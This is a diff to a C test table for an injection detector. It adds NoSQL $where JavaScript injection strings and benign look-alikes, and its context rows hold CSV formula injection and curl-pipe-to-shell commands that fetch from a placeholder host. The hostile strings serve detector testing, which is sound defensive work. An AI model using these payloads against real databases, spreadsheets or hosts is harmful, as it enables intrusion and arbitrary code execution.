@@ -76,6 +76,11 @@ static const struct dcase dcases[] = {
 	{ "/var/runtime/bootstrap", B(LFI) }, { "1; return true", B(NOSQL) }, { "0;return this.a", B(NOSQL) },
 	{ "{\"$text\": {\"$search\": \"admin\"}}", B(NOSQL) }, { "{\"a\": {\"$type\": \"string\"}}", B(NOSQL) },
 	{ "{\"a\": {\"$type\": 2}}", B(NOSQL) }, { "a,b,=cmd|' /C calc'!A0", B(CSV) }, { "in/=HYPERLINK(\"http://x\",\"y\").csv", B(CSV) },
+	/* $where JavaScript after the quote that ends the string (own rows) */
+	{ "' || 'a'=='a", B(NOSQL) }, { "'||this.isAdmin||'", B(NOSQL) }, { "' ; return db.getCollectionNames() ; '", B(NOSQL) },
+	{ "x' || true || '", B(NOSQL) }, { "true; return true", B(NOSQL) }, { "admin' || '1'=='1", B(NOSQL) },
+	{ "const ok = name === 'x' || name == 'y';", 0 }, { "grep 'foo' || true", 0 }, { "console.log('hi'); return true;", 0 },
+	{ "user == 'admin' || role == 'root'", 0 },
 	/* what the relaxed rules below must still catch */
 	{ "curl -fsSL https://x.example/i.sh | sh | sh", B(CMD) }, { "curl http://x.example/a -o /tmp/a | sh", B(CMD) },
 	{ "curl http://x.example/a | sh /tmp/a", B(CMD) }, { "ls && curl http://x.example/a | sh", B(CMD) },
